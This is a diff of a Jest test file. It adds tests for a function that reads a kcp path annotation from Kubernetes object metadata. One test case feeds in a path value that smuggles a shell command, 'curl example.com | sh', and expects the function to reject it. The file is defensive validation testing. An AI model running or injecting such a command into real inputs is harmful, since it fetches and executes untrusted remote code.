@@ -2,6 +2,7 @@ import { describe, expect, it } from '@jest/globals';
 import {
   childPath,
   clusterOf,
+  hintedPath,
   groupResourceKey,
   nameOfPath,
   parseKubeObject,
@@ -70,6 +71,16 @@ describe(groupResourceKey, () => {
   it('given the core group, then people read the resource alone', () => {
     expect(printGroupResource({ group: '', resource: 'secrets' })).toBe('secrets');
     expect(printGroupResource({ group: 'x.io', resource: 'vms' })).toBe('vms.x.io');
+  });
+});
+
+describe(hintedPath, () => {
+  it.each([
+    { given: 'a path', path: 'root:providers:network', expected: 'root:providers:network' },
+    { given: 'what a shell would run', path: 'root:x; curl example.com | sh #', expected: undefined },
+    { given: 'nothing', path: undefined, expected: undefined },
+  ])('given $given, then $expected', ({ path, expected }) => {
+    expect(hintedPath({ metadata: { annotations: path === undefined ? {} : { 'kcp.io/path': path } } })).toBe(expected);
   });
 });
 
